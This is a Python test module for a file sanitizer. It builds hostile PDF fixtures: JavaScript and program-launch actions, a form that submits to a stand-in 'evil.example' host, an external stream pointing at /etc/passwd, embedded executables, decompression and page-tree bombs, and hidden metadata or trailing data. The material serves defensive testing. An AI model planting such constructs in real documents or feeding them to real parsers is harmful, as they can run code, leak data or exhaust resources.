"""Hostile PDFs: what acts, what carries files, what never ends, and what only hides."""

import io
import zlib
from functools import cache
from typing import Any

import pikepdf

from pazpaz.sanitizing.errors import Reason
from tests.support.files_case import MARK, PDF, Case, costly, hostile
from tests.support.files_images import encoded, exif, jpeg_with
from tests.support.files_pdf import (
    CONTENT,
    assemble,
    document,
    flate,
    in_object_stream,
    revised,
    stream,
    zeros,
)

_ACTIVE, _FILES, _COMPLEX = Reason.ACTIVE_CONTENT, Reason.EMBEDDED_FILE, Reason.TOO_COMPLEX
_COSTLY, _BROKEN, _LOCKED = Reason.TOO_COSTLY, Reason.DOES_NOT_DECODE, Reason.ENCRYPTED

_JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_ACTIONS = {
    "JavaScript": _JS,
    "JavaScript in a stream": b"<< /S /JavaScript /JS 20 0 R >>",
    "JavaScript spelled with codes": b"<< /#53 /J#61vaScri#70t /JS (x) >>",
    "JavaScript as a string": b"<< /S (JavaScript) /JS (x) >>",
    "JavaScript by reference": b"<< /S 21 0 R /JS (x) >>",
    "JavaScript after a page turn": b"<< /S /GoTo /D [3 0 R /Fit] /Next " + _JS + b" >>",
    "JavaScript in a list": b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> "
    + _JS
    + b"] >>",
    "a program": b"<< /S /Launch /F (calc.exe) >>",
    "a program for Windows": b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
    "a form sent off": b"<< /S /SubmitForm /F (http://evil.example) >>",
    "imported data": b"<< /S /ImportData /F (\\\\\\\\evil\\\\x.fdf) >>",
    "a rendition": b"<< /S /Rendition /OP 0 /JS (x) >>",
    "a film": b"<< /S /Movie /Operation /Play >>",
    "a sound": b"<< /S /Sound /Sound 20 0 R >>",
    "rich media": b"<< /S /RichMediaExecute /TI 20 0 R >>",
    "3D": b"<< /S /GoTo3DView /TA 20 0 R >>",
}
_MORE = {20: stream(b"app.alert(1)"), 21: b"/JavaScript"}


def _annotation(entries: bytes) -> bytes:
    return document(
        page=b"/Annots [10 0 R]", extra={10: b"<< /Type /Annot /Rect [0 0 9 9] " + entries + b" >>", **_MORE}
    )


def _opening(action: bytes) -> bytes:
    return document(catalogue=b"/OpenAction " + action, extra=_MORE)


_JS_PLACES = {
    "a page's opening": lambda: document(page=b"/AA << /O " + _JS + b" >>"),
    "the document's closing": lambda: document(catalogue=b"/AA << /WC " + _JS + b" >>"),
    "its names": lambda: document(catalogue=b"/Names << /JavaScript << /Names [(a) " + _JS + b"] >> >>"),
    "a link": lambda: _annotation(b"/Subtype /Link /A " + _JS),
    "a link's hovering": lambda: _annotation(b"/Subtype /Link /AA << /E " + _JS + b" >>"),
    "a link's second action": lambda: _annotation(b"/Subtype /Link /PA " + _JS),
    "a field's keys": lambda: document(
        catalogue=b"/AcroForm << /Fields [10 0 R] >>",
        extra={10: b"<< /FT /Tx /T (a) /AA << /K " + _JS + b" >> >>"},
    ),
    "an outline": lambda: document(
        catalogue=b"/Outlines << /First 10 0 R /Last 10 0 R >>",
        extra={10: b"<< /Title (a) /A " + _JS + b" >>"},
    ),
    "an annotation nobody refers to by type": lambda: document(
        page=b"/Annots [<< /Subtype /Widget /Rect [0 0 1 1] /MK << /A " + _JS + b" >> >>]"
    ),
    "an object stream": lambda: in_object_stream({4: _JS}, b"/OpenAction 4 0 R"),
    "an object stream, spelled with codes": lambda: in_object_stream(
        {4: b"<< /S /JavaScr#69pt /J#53 (x) >>"}, b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"
    ),
    "a later revision": lambda: revised(
        document(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + _JS + b" >>"
    ),
}

ACTIVE = [
    *(hostile(f"PDF that opens with {name}", PDF, lambda action=action: _opening(action), _ACTIVE)  # type: ignore[misc]
      for name, action in _ACTIONS.items()),
    *(hostile(f"PDF with JavaScript in {place}", PDF, make, _ACTIVE) for place, make in _JS_PLACES.items()),
    *(hostile(f"PDF with an annotation of {name}", PDF, lambda name=name: _annotation(b"/Subtype /" + name.encode()), _ACTIVE)  # type: ignore[misc]
      for name in ("Movie", "Sound", "Screen", "3D", "RichMedia", "Projection")),
    hostile("PDF with JavaScript where nobody looks", PDF, lambda: document(page=b"/X [<< /Y " + _JS + b" >>]"), _ACTIVE),
    hostile("PDF with XFA", PDF, lambda: document(catalogue=b"/AcroForm << /Fields [] /XFA 20 0 R >>", extra=_MORE), _ACTIVE),
    hostile("PDF with renditions", PDF, lambda: document(catalogue=b"/Names << /Renditions << /Names [(a) << >>] >> >>"), _ACTIVE),
    hostile("PDF whose data lie elsewhere", PDF, lambda: document(page=b"/X 10 0 R", extra={10: stream(b"", b"/F (/etc/passwd)")}), _ACTIVE),
]  # fmt: skip

_EF = b"<< /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>"
_FILE = {10: _EF, 11: stream(b"MZ", b"/Type /EmbeddedFile")}

FILES = [
    hostile("PDF with a file", PDF, lambda: document(catalogue=b"/Names << /EmbeddedFiles << /Names [(x) 10 0 R] >> >>", extra=_FILE), _FILES),
    hostile("PDF with a file, deeper", PDF, lambda: document(catalogue=b"/Names << /EmbeddedFiles << /Kids [12 0 R] >> >>", extra={**_FILE, 12: b"<< /Names [(x) 10 0 R] >>"}), _FILES),
    hostile("PDF with a file on a page", PDF, lambda: _annotation(b"/Subtype /FileAttachment /FS 11 0 R"), _FILES),
    hostile("PDF with a file in an annotation", PDF, lambda: document(page=b"/Annots [<< /Subtype /Text /Rect [0 0 1 1] /FS 10 0 R >>]", extra=_FILE), _FILES),
    hostile("PDF with a file of no type", PDF, lambda: document(page=b"/X << /EF << /F 10 0 R >> >>", extra={10: stream(b"MZ")}), _FILES),
    hostile("PDF with a file in a destination", PDF, lambda: document(catalogue=b"/Dests << /a 11 0 R >>", extra=_FILE), _FILES),
    hostile("PDF that is a portfolio", PDF, lambda: document(catalogue=b"/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(x) 10 0 R] >> >>", extra=_FILE), _FILES),
]  # fmt: skip


def _encrypted(**options: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(document())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(**options))
    return out.getvalue()


LOCKED = [
    hostile("PDF locked", PDF, lambda: _encrypted(owner="a", user="b"), _LOCKED),
    hostile(
        "PDF locked by RC4",
        PDF,
        lambda: _encrypted(owner="a", user="b", R=3, aes=False, metadata=False),
        _LOCKED,
    ),
]


def _forms(count: int, draws: int, *, loop: bool) -> bytes:
    """Forms, each drawing the next so many times, and the last the first."""
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] "
    extra = {}
    for number in range(10, 10 + count):
        inner = number + 1 if number + 1 < 10 + count else 10
        more = b"/Resources << /XObject << /X %d 0 R >> >>" % inner
        is_last = inner == 10 and not loop
        extra[number] = stream(b"/X Do " * draws, entries + (b"" if is_last else more))
    return document(extra=extra, page=b"/Y 10 0 R")


def _pages_shared(levels: int) -> bytes:
    """Every branch holds the next one twice: 2^levels pages of one."""
    objects = {
        1: b"<< /Type /Catalog /Pages 10 0 R >>",
        3: b"<< /Type /Page /MediaBox [0 0 9 9] /Parent 10 0 R >>",
    }
    for level in range(levels):
        target = 11 + level if level + 1 < levels else 3
        objects[10 + level] = b"<< /Type /Pages /Count 9 /Kids [%d 0 R %d 0 R] >>" % (target, target)
    return assemble(objects)


@cache
def _packed(megabytes: int) -> bytes:
    return zeros(megabytes)


def _big_streams(count: int, megabytes: int) -> bytes:
    body = stream(_packed(megabytes), b"/Filter /FlateDecode")
    references = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    return document(page=b"/X [" + references + b"]", extra=dict.fromkeys(range(10, 10 + count), body))


def _twice(levels: int) -> bytes:
    body = _packed(200)
    for _ in range(levels - 1):
        body = zlib.compress(body)
    return document(
        page=b"/X 10 0 R", extra={10: stream(body, b"/Filter [" + b"/FlateDecode " * levels + b"]")}
    )


def _table(entries: bytes, table: bytes) -> bytes:
    """A cross-reference stream that claims anything."""
    head = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n"
    own = b"9 0 obj\n" + flate(table, b"/Type /XRef /Root 1 0 R " + entries) + b"\nendobj\n"
    return head + own + b"startxref\n%d\n%%%%EOF\n" % len(head)


ENDLESS = [
    hostile("PDF whose pages go in circles", PDF, lambda: document(objects={2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"}), _COMPLEX, _BROKEN),
    hostile("PDF of 2^40 pages in 2 KB", PDF, lambda: _pages_shared(40), _COMPLEX, _BROKEN, _COSTLY),
    hostile("PDF of 6,000 pages", PDF, lambda: document(objects={2: b"<< /Type /Pages /Count 6000 /Kids [" + b" ".join(b"%d 0 R" % n for n in range(10, 6010)) + b"] >>"}, extra=dict.fromkeys(range(10, 6010), b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")), _COMPLEX),
    hostile("PDF of no pages", PDF, lambda: document(objects={2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), _COMPLEX, _BROKEN),
    hostile("PDF whose outline goes in circles", PDF, lambda: document(catalogue=b"/Outlines << /First 10 0 R /Last 11 0 R >>", extra={10: b"<< /Title (a) /Next 11 0 R >>", 11: b"<< /Title (b) /Next 10 0 R >>"}), _COMPLEX),
    hostile("PDF whose names go in circles", PDF, lambda: document(catalogue=b"/Names << /Dests 10 0 R >>", extra={10: b"<< /Kids [11 0 R] >>", 11: b"<< /Kids [10 0 R 11 0 R] >>"}), _COMPLEX),
    hostile("PDF whose fields go in circles", PDF, lambda: document(catalogue=b"/AcroForm << /Fields [10 0 R] >>", extra={10: b"<< /T (a) /Kids [11 0 R] >>", 11: b"<< /T (b) /Parent 10 0 R /Kids [11 0 R] >>"}), _COMPLEX),
    hostile("PDF with a form that draws itself", PDF, lambda: _forms(1, 1, loop=True), _COMPLEX),
    hostile("PDF with forms that draw each other", PDF, lambda: _forms(5, 1, loop=True), _COMPLEX),
    hostile("PDF with forms 100 deep", PDF, lambda: _forms(100, 1, loop=False), _COMPLEX),
    hostile("PDF of 10^12 forms in 2 KB", PDF, lambda: _forms(12, 10, loop=False), _COMPLEX),
    hostile("PDF of brackets", PDF, lambda: document(page=b"/X 10 0 R", extra={10: b"[" * 50_000 + b"]" * 50_000})),
    hostile("PDF of dictionaries in dictionaries", PDF, lambda: document(catalogue=b"/Dests " + b"<< /A " * 5_000 + b"0" + b" >>" * 5_000), _COMPLEX, _BROKEN),
    hostile("PDF of a million objects", PDF, lambda: document(page=b"/X 10 0 R", extra={10: b"[" + b"[]" * 1_000_000 + b"]"}), _COMPLEX, _COSTLY, _BROKEN),
    costly("PDF of 480,000 dictionaries", PDF, lambda: document(page=b"/X 10 0 R", extra={10: b"[" + b"<</S/P/A<</S/GoTo/D[]>>/Next<</S/GoTo>>>>" * 120_000 + b"]"})),
    hostile("PDF with a stream of 300 MB", PDF, lambda: _big_streams(1, 300), _COSTLY),
    hostile("PDF with streams of 1.4 gigabytes", PDF, lambda: _big_streams(7, 200), _COSTLY),
    hostile("PDF packed twice", PDF, lambda: _twice(2), _COSTLY),
    hostile("PDF packed ten times", PDF, lambda: _twice(10), _COSTLY),
    hostile("PDF with a long run", PDF, lambda: document(page=b"/X 10 0 R", extra={10: flate((b"\x81" + b"\0") * 3_000_000, b"/X 1").replace(b"/Filter /FlateDecode", b"/Filter [/FlateDecode /RunLengthDecode]")}), _COSTLY, _BROKEN),
    hostile("PDF with a filter nobody knows", PDF, lambda: document(page=b"/X 10 0 R", extra={10: stream(b"x", b"/Filter /Evil")}), _BROKEN),
    hostile("PDF with damaged packing", PDF, lambda: document(page=b"/X 10 0 R", extra={10: stream(b"not packed", b"/Filter /FlateDecode")}), _BROKEN),
    hostile("PDF with a picture of 10 gigapixels", PDF, lambda: document(page=b"/X 10 0 R", extra={10: stream(b"\0", b"/Subtype /Image /Width 100000 /Height 100000 /Filter /JBIG2Decode")}), Reason.TOO_MANY_PIXELS),
    hostile("PDF with a photo that is none", PDF, lambda: document(page=b"/X 10 0 R", extra={10: stream(b"\0", b"/Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode")}), _BROKEN),
    hostile("PDF with a table of 2^31 objects", PDF, lambda: _table(b"/Size 2147483647 /W [1 3 1] /Index [0 2147483647] ", bytes(50))),
    hostile("PDF with a table of no width", PDF, lambda: _table(b"/Size 10 /W [0 0 0] ", b"")),
    hostile("PDF with a table wider than it is", PDF, lambda: _table(b"/Size 10 /W [1 2147483647 1] ", bytes(50))),
    hostile("PDF whose tables go in circles", PDF, lambda: document(trailer=b"/Prev 15")),
    hostile("PDF whose length goes in circles", PDF, lambda: document(page=b"/X 10 0 R", extra={10: b"<< /Length 10 0 R >>\nstream\nx\nendstream"})),
    hostile("PDF whose object stream is in itself", PDF, lambda: document(page=b"/X 11 0 R", extra={10: stream(b"11 0 [] ", b"/Type /ObjStm /N 999999999 /First 5 /Extends 10 0 R")})),
    hostile("PDF of nothing", PDF, lambda: b"%PDF-1.7\n", _BROKEN),
    hostile("PDF of nothing but an end", PDF, lambda: b"%PDF-1.7\n%%EOF", _BROKEN),
    hostile("PDF of noise", PDF, lambda: b"%PDF-1.7\n" + bytes(range(256)) * 500, _BROKEN),
    hostile("PDF without a catalogue", PDF, lambda: assemble({1: b"<< /Type /Wrong >>"}), _BROKEN, _COMPLEX),
    hostile("PDF of a million broken objects", PDF, lambda: b"%PDF-1.7\n" + b"1 0 obj\n<<" * 900_000, _BROKEN, _COSTLY, _COMPLEX),
    hostile("PDF cut in half", PDF, lambda: document()[:400]),
]  # fmt: skip


def _photo(jpeg: bytes, how: bytes = b"/DCTDecode") -> bytes:
    entries = b"/Type /XObject /Subtype /Image /Width 96 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter "
    return document(page=b"/X 10 0 R", extra={10: stream(jpeg, entries + how)})


def _boxed() -> bytes:
    plain = encoded("JPEG2000")
    box = len(MARK) + 24
    return plain[:12] + box.to_bytes(4, "big") + b"uuid" + bytes(16) + MARK + plain[12:]


HIDING = [
    hostile("PDF with its author", PDF, lambda: document(extra={10: b"<< /Author (" + MARK + b") /Producer (x) >>"}, trailer=b"/Info 10 0 R")),
    hostile("PDF with XMP", PDF, lambda: document(catalogue=b"/Metadata 10 0 R", extra={10: stream(b"<x:xmpmeta>" + MARK, b"/Type /Metadata /Subtype /XML")})),
    hostile("PDF with XMP on a page", PDF, lambda: document(page=b"/Metadata 10 0 R", extra={10: stream(MARK, b"/Type /Metadata")})),
    hostile("PDF with an application's data", PDF, lambda: document(page=b"/PieceInfo << /X << /Private (" + MARK + b") >> >>")),
    hostile("PDF with a thumbnail", PDF, lambda: document(page=b"/Thumb 10 0 R", extra={10: stream(MARK)})),
    hostile("PDF with an empty list of files", PDF, lambda: document(catalogue=b"/Names << /EmbeddedFiles << /Names [] >> >> /AF []")),
    hostile("PDF with things nobody knows", PDF, lambda: document(catalogue=b"/Evil (" + MARK + b")", trailer=b"/Evil (" + MARK + b")")),
    hostile("PDF with a ZIP behind", PDF, lambda: document() + b"PK\x03\x04" + MARK),
    hostile("PDF with a program in a remark", PDF, lambda: document().replace(b"%\xe2\xe3", b"%" + MARK + b"\n%\xe2\xe3", 1)),
    hostile("PDF with HTML in its first line", PDF, lambda: document().replace(b"%PDF-1.7", b"%PDF-1.7<script>" + MARK, 1)),
    hostile("PDF with an object nobody uses", PDF, lambda: document(extra={10: _JS.replace(b"app", MARK)})),
    hostile("PDF with a stream nobody uses", PDF, lambda: document(extra={10: flate(MARK)})),
    hostile("PDF with bytes behind a stream's end", PDF, lambda: document(objects={4: stream(zlib.compress(CONTENT) + MARK, b"/Filter /FlateDecode")})),
    hostile("PDF with an older revision", PDF, lambda: revised(document(objects={4: stream(MARK)}), 4, stream(CONTENT))),
    hostile("PDF with a photo with GPS", PDF, lambda: _photo(jpeg_with(exif(1, MARK)))),
    hostile("PDF with a photo with GPS, packed", PDF, lambda: _photo(zlib.compress(jpeg_with(exif(1, MARK))), b"[/FlateDecode /DCTDecode]")),
    hostile("PDF with bytes behind a photo", PDF, lambda: _photo(encoded("JPEG") + MARK)),
    hostile("PDF with a JPEG 2000 with GPS", PDF, lambda: _photo(_boxed(), b"/JPXDecode")),
    hostile("PDF with a link to JavaScript", PDF, lambda: _annotation(b"/Subtype /Link /A << /S /URI /URI (javascript:" + MARK + b") >>")),
    hostile("PDF with a link to a file", PDF, lambda: _annotation(b"/Subtype /Link /A << /S /URI /URI (file:///" + MARK + b") >>")),
    hostile("PDF with a signature", PDF, lambda: document(catalogue=b"/AcroForm << /Fields [10 0 R] >>", extra={10: b"<< /FT /Sig /T (s) /V << /Type /Sig /ByteRange [0 1 2 3] /Contents (" + MARK + b") >> >>"})),
]  # fmt: skip

CASES: list[Case] = [*ACTIVE, *FILES, *LOCKED, *ENDLESS, *HIDING]
